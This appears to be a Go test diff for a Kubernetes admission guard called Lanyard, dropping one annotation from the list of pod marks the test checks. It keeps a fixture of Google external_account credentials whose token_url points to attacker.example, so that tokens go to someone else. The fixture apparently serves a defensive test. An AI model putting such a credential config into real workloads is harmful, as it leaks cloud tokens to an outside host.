@@ -30,7 +30,7 @@ import (
 const marksDenied = "ValidatingAdmissionPolicy 'lanyard-guard-marks' with binding 'lanyard-guard-marks' denied request: lanyard: the annotations lanyard.dev/injected,"
 
 // marks are the annotations that Lanyard writes on a pod.
-var marks = []string{"lanyard.dev/injected", "lanyard.dev/identity-hash", "lanyard.dev/aws-config", "lanyard.dev/gcp-credentials"}
+var marks = []string{"lanyard.dev/injected", "lanyard.dev/aws-config", "lanyard.dev/gcp-credentials"}
 
 // stolen are Google credentials that send the token to somebody else.
 const stolen = `{"type":"external_account","token_url":"https://attacker.example/"}`
